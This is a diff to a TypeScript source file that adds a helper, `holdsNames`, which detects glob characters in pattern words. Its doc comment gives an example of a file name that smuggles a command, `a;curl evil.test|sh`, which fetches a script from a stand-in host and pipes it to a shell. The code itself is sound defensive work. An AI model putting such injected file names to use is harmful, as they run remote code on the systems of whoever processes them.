@@ -109,6 +109,14 @@ export function isToken(word: Pick<Word, 'text' | 'pattern'>): boolean {
 	return word.pattern && (word.text === tokenText || word.text === numberText);
 }
 
+/**
+ * Whether names of files were put into a word that is read as code. Threat: a name may hold a command, `a;curl evil.test|sh`, which whoever
+ * wrote the code never saw.
+ */
+export function holdsNames({ text, pattern }: Pick<Word, 'text' | 'pattern'>): boolean {
+	return pattern && /[*?[]/.test(text.replaceAll(tokenText, '').replaceAll(numberText, ''));
+}
+
 /** Whether a value is one whole number. */
 export function isNumber(value: readonly Word[] | undefined): boolean {
 	const [word, ...others] = value ?? [];
